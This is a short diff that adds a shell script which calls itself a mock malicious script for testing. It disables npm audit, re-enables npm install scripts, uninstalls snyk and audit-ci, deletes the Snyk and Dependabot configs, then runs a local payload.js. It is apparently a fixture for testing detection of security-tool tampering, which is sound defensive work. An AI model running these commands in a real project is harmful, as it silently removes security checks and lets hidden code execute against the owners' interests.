@@ -0,0 +1,8 @@
+#!/bin/sh
+# MOCK malicious script - FOR TESTING ONLY
+# Switches off the checks that would catch the payload before running it
+npm config set audit false
+echo "ignore-scripts=false" >> ~/.npmrc
+npm uninstall --save-dev snyk audit-ci
+rm -f .snyk .github/dependabot.yml
+node ./payload.js